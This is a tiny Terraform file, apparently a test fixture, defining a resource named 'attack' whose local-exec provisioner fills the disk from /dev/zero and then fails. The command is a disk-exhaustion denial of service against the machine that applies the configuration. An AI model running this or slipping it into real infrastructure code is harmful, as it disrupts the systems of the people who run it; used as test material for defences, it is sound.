resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      cat /dev/zero > endless; rm -f endless; exit 1
    EOT
  }
}
